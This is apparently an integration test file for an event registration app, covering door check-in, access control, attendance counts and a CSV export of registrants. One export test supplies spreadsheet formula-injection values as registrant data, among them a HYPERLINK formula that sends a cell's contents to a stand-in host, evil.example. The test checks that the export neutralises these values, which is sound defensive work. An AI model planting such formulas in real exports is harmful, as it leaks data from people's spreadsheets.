import { sql } from '@payloadcms/db-postgres'
import { parse } from 'csv-parse/sync'
import type { Payload } from 'payload'

import { register } from '@/lib/events/registration/register'
import { sqlRunner } from '@/lib/practices/database'
import type { EventEdition, User } from '@/payload-types'
import { createEdition, registrant } from '../support/eventFixtures'
import { testCountry } from '../support/fundingFixtures'
import { createStaff } from '../support/practiceFixtures'
import { closePayload, getTestPayload } from '../support/payload'
import { rest } from '../support/rest'

let payload: Payload
let eventTeam: { user: User; token: string }
let editor: { user: User; token: string }

beforeAll(async () => {
  process.env.JOBS_AUTORUN = 'false'
  payload = await getTestPayload()
  eventTeam = await createStaff(payload, 'events')
  editor = await createStaff(payload, 'editor')
  // One set of flags per user-assigned code across the test files (see fundingFixtures).
  await testCountry(payload, 'XE', { region: 'europe', euMember: true })
  await testCountry(payload, 'XJ', { region: 'africa', odaEligible: true })
})

afterAll(async () => {
  await closePayload(payload)
})

async function registered(edition: EventEdition, overrides: Parameters<typeof registrant>[0] = {}) {
  const person = registrant(overrides)
  const outcome = await register(payload, edition.slug, person)
  if (!('registrationId' in outcome)) throw new Error(`Registration refused: ${outcome.outcome}`)
  const stored = await payload.findByID({ collection: 'registrations', id: outcome.registrationId, overrideAccess: true })
  return { person, id: stored.id, code: stored.checkInCode as string, status: stored.status }
}

const checkIn = (edition: number, code: string, token?: string, headers: Record<string, string> = {}) =>
  rest('POST', '/registrations/check-in', { token, json: { edition, code }, headers })

const stored = (id: number) => payload.findByID({ collection: 'registrations', id, overrideAccess: true })
const message = async (response: Response) => ((await response.json()) as { errors: Array<{ message: string }> }).errors[0].message

describe('check-in at the door', () => {
  it('checks in a confirmed registrant by her code, typed in lower case with spaces and dashes, and says who she is', async () => {
    const edition = await createEdition(payload, { inPerson: 5 })
    const { id, code } = await registered(edition, { name: 'Amina Diallo', organisation: 'City of Dakar' })
    const typed = `${code.slice(0, 5).toLowerCase()} - ${code.slice(5)}`

    const response = await checkIn(edition.id, typed, eventTeam.token)
    expect(response.status).toBe(200)
    const body = (await response.json()) as { outcome: string; message: string; registrant: { name: string; organisation: string; attendanceMode: string } }
    expect(body).toMatchObject({ outcome: 'checked_in', registrant: { name: 'Amina Diallo', organisation: 'City of Dakar', attendanceMode: 'in_person' } })
    expect(body.message).toContain('Amina Diallo')

    const after = await stored(id)
    expect(after.status).toBe('checked_in')
    expect(after.checkedInAt).toBeTruthy()
    expect(typeof after.checkedInBy === 'object' ? after.checkedInBy?.id : after.checkedInBy).toBe(eventTeam.user.id)
  })

  it('refuses a second check-in of the same code, saying when and by whom (in the admin’s language)', async () => {
    const edition = await createEdition(payload, { inPerson: 5 })
    const { id, code } = await registered(edition)
    expect((await checkIn(edition.id, code, eventTeam.token)).status).toBe(200)
    const first = (await stored(id)).checkedInAt

    const again = await checkIn(edition.id, code, eventTeam.token)
    expect(again.status).toBe(409)
    const text = await message(again)
    expect(text).toMatch(/already checked in/)
    expect(text).toContain(eventTeam.user.name)

    const inFrench = await checkIn(edition.id, code, eventTeam.token, { 'Accept-Language': 'fr' })
    expect(inFrench.status).toBe(409)
    expect(await message(inFrench)).toMatch(/déjà été enregistré/)
    expect((await stored(id)).checkedInAt).toBe(first)
  })

  it('checks in once when two desks scan the same code at the same moment', async () => {
    const edition = await createEdition(payload, { inPerson: 5 })
    const { id, code } = await registered(edition)
    const answers = await Promise.all([checkIn(edition.id, code, eventTeam.token), checkIn(edition.id, code, eventTeam.token)])
    expect(answers.map((answer) => answer.status).sort()).toEqual([200, 409])
    expect((await stored(id)).status).toBe('checked_in')
  })

  it('does not know a code of another edition, nor an unknown code (404)', async () => {
    const [edition, other] = [await createEdition(payload, { inPerson: 5 }), await createEdition(payload, { inPerson: 5 })]
    const { id, code } = await registered(other)
    expect((await checkIn(edition.id, code, eventTeam.token)).status).toBe(404)
    expect((await checkIn(edition.id, 'ZZZZZZZZZZ', eventTeam.token)).status).toBe(404)
    expect((await checkIn(999_999_999, code, eventTeam.token)).status).toBe(404)
    expect((await stored(id)).status).toBe('confirmed')
  })

  it('refuses someone without a seat and says why: waiting list, offer not accepted, cancelled', async () => {
    const edition = await createEdition(payload, { inPerson: 1 })
    await registered(edition)
    const waiting = await registered(edition, { name: 'Wei Waiting' })
    expect(waiting.status).toBe('waitlisted')
    const response = await checkIn(edition.id, waiting.code, eventTeam.token)
    expect(response.status).toBe(409)
    expect(await message(response)).toMatch(/Wei Waiting is on the waiting list \(number 1\)/)
    expect((await stored(waiting.id)).status).toBe('waitlisted')

    for (const [status, why] of [['offered', /has been offered a seat/], ['cancelled', /was cancelled/]] as const) {
      const other = await registered(edition)
      await payload.update({ collection: 'registrations', id: other.id, data: { status }, overrideAccess: true })
      const refused = await checkIn(edition.id, other.code, eventTeam.token)
      expect(refused.status).toBe(409)
      expect(await message(refused)).toMatch(why)
      expect((await stored(other.id)).status).toBe(status)
    }
  })

  it('is for the event team only: the public gets 401, an editor without the role 403, and nothing changes', async () => {
    const edition = await createEdition(payload, { inPerson: 5 })
    const { id, code } = await registered(edition)
    expect((await checkIn(edition.id, code)).status).toBe(401)
    expect((await checkIn(edition.id, code, editor.token)).status).toBe(403)
    expect((await stored(id)).status).toBe('confirmed')
  })

  it('answers a bad body with 400', async () => {
    const edition = await createEdition(payload, { inPerson: 5 })
    expect((await rest('POST', '/registrations/check-in', { token: eventTeam.token, json: { edition: edition.id } })).status).toBe(400)
    expect((await rest('POST', '/registrations/check-in', { token: eventTeam.token, json: { edition: 'x', code: 'ABC' } })).status).toBe(400)
  })

  it('answers a desk posting the form without JavaScript with a page holding the form again', async () => {
    const edition = await createEdition(payload, { inPerson: 5 })
    const { code } = await registered(edition, { name: 'Nadia Noscript' })
    const response = await rest('POST', '/registrations/check-in', {
      token: eventTeam.token,
      body: new URLSearchParams({ edition: String(edition.id), code }),
      headers: { 'Content-Type': 'application/x-www-form-urlencoded', Accept: 'text/html' },
    })
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toMatch(/text\/html/)
    const page = await response.text()
    expect(page).toContain('Nadia Noscript is checked in')
    expect(page).toMatch(/<input id="code" name="code"[^>]*autofocus/)
    expect(page).toContain(`name="edition" value="${edition.id}"`)
  })
})

type Counts = {
  total: number
  byStatus: Array<{ status: string; count: number }>
  byMode: Array<{ mode: string; capacity: number; seatsTaken: number; free: number; waitlisted: number; checkedIn: number }>
  byCountry: Array<{ key: string | null; count: number; checkedIn: number }>
  byRole: Array<{ key: string | null; count: number; checkedIn: number }>
}

describe('the event team’s counts', () => {
  it('counts the registrations by status, mode (against capacity), country and role', async () => {
    const edition = await createEdition(payload, { inPerson: 2, online: 3 })
    const a = await registered(edition, { country: 'XE', role: 'researcher' })
    await registered(edition, { country: 'XE', role: 'city_official' })
    const waiting = await registered(edition, { country: 'XJ', role: 'researcher' })
    await registered(edition, { attendanceMode: 'online', country: 'XJ' })
    const gone = await registered(edition, { attendanceMode: 'online', country: 'XE', role: 'media' })
    await payload.update({ collection: 'registrations', id: gone.id, data: { status: 'cancelled' }, overrideAccess: true })
    expect(waiting.status).toBe('waitlisted')
    expect((await checkIn(edition.id, a.code, eventTeam.token)).status).toBe(200)

    const response = await rest('GET', `/event-editions/${edition.id}/registration-counts`, { token: eventTeam.token })
    expect(response.status).toBe(200)
    const counts = (await response.json()) as Counts
    expect(counts.total).toBe(5)
    expect(Object.fromEntries(counts.byStatus.map((row) => [row.status, row.count]))).toEqual({ confirmed: 2, waitlisted: 1, offered: 0, cancelled: 1, checked_in: 1 })
    expect(counts.byMode).toEqual([
      { mode: 'in_person', capacity: 2, seatsTaken: 2, free: 0, waitlisted: 1, checkedIn: 1 },
      { mode: 'online', capacity: 3, seatsTaken: 1, free: 2, waitlisted: 0, checkedIn: 0 },
    ])
    // Without the cancelled registration.
    expect(Object.fromEntries(counts.byCountry.map((row) => [row.key, row.count]))).toEqual({ XE: 2, XJ: 2 })
    expect(counts.byCountry.find((row) => row.key === 'XE')?.checkedIn).toBe(1)
    expect(Object.fromEntries(counts.byRole.map((row) => [String(row.key), row.count]))).toEqual({ researcher: 2, city_official: 1, null: 1 })
  })

  it('are for the event team only', async () => {
    const edition = await createEdition(payload, { inPerson: 2 })
    expect((await rest('GET', `/event-editions/${edition.id}/registration-counts`)).status).toBe(401)
    expect((await rest('GET', `/event-editions/${edition.id}/registration-counts`, { token: editor.token })).status).toBe(403)
    expect((await rest('GET', `/event-editions/999999999/registration-counts`, { token: eventTeam.token })).status).toBe(404)
  })
})

describe('the registrants’ CSV export', () => {
  const exportOf = (edition: EventEdition, token?: string) => rest('GET', `/event-editions/${edition.id}/registrants.csv`, { token })

  it('has a header, one row per registrant, and cells a spreadsheet would run as formulas written as text', async () => {
    const edition = await createEdition(payload, { inPerson: 1 })
    const plain = await registered(edition, { name: 'José Ñúñez', organisation: 'Ciudad de México', city: 'Ciudad de México', country: 'XE', role: 'researcher', dietaryNeeds: 'Vegetarian' })
    const attacker = await registered(edition, {
      name: '=HYPERLINK("https://evil.example/?"&A2,"Click")',
      organisation: '+SUM(1,2)',
      city: '@cmd',
      accessibilityNeeds: '-2+3',
      dietaryNeeds: '\tTAB',
    })
    expect((await checkIn(edition.id, plain.code, eventTeam.token)).status).toBe(200)

    const response = await exportOf(edition, eventTeam.token)
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/)
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="gkec-registrants-${edition.slug}.csv"`)
    const bytes = new Uint8Array(await response.arrayBuffer())
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const rows = parse(new TextDecoder().decode(bytes).replace(/^\uFEFF/, ''), { columns: true }) as Array<Record<string, string>>
    expect(Object.keys(rows[0])).toEqual([
      'name', 'email', 'organisation', 'city', 'country', 'role', 'mode', 'status', 'waitlist_position',
      'accessibility_needs', 'dietary_needs', 'registered_at', 'checked_in_at',
    ])
    expect(rows).toHaveLength(2)
    expect(rows[0]).toMatchObject({
      name: 'José Ñúñez',
      email: plain.person.email,
      organisation: 'Ciudad de México',
      country: 'Country XE',
      role: 'researcher',
      mode: 'in_person',
      status: 'checked_in',
      waitlist_position: '',
      dietary_needs: 'Vegetarian',
    })
    expect(new Date(rows[0].checked_in_at).getTime()).not.toBeNaN()
    expect(rows[1]).toMatchObject({
      name: `'=HYPERLINK("https://evil.example/?"&A2,"Click")`,
      organisation: "'+SUM(1,2)",
      city: "'@cmd",
      accessibility_needs: "'-2+3",
      status: 'waitlisted',
      waitlist_position: '1',
      checked_in_at: '',
    })
    expect(rows[1].dietary_needs).toBe("'\tTAB")
    expect(rows[1].email).toBe(attacker.person.email)
  })

  it('streams an edition larger than one page, every registrant once', async () => {
    const edition = await createEdition(payload, { inPerson: 600 })
    const emails: string[] = []
    for (let index = 0; index < 520; index++) emails.push(registrant().email)
    // Straight into the table: the export is under test here, not registering.
    const db = await sqlRunner(payload)
    await db.execute(sql`
      INSERT INTO registrations (edition_id, name, email, attendance_mode, locale, privacy_consent_at, status)
      SELECT ${edition.id}, 'Bulk ' || n, e, 'in_person', 'en', now(), 'confirmed'
      FROM unnest(${sql.param(emails)}::text[]) WITH ORDINALITY AS t(e, n)`)
    const text = await (await exportOf(edition, eventTeam.token)).text()
    const rows = parse(text.replace(/^\uFEFF/, ''), { columns: true }) as Array<Record<string, string>>
    expect(rows).toHaveLength(520)
    expect(new Set(rows.map((row) => row.email))).toEqual(new Set(emails))
  })

  it('is refused to the public (401) and to staff outside the event team (403), and 404 for an unknown edition', async () => {
    const edition = await createEdition(payload, { inPerson: 1 })
    await registered(edition, { name: 'Private Person' })
    for (const [token, status] of [[undefined, 401], [editor.token, 403]] as const) {
      const response = await exportOf(edition, token)
      expect(response.status).toBe(status)
      expect(await response.text()).not.toContain('Private Person')
    }
    expect((await rest('GET', '/event-editions/999999999/registrants.csv', { token: eventTeam.token })).status).toBe(404)
  })
})
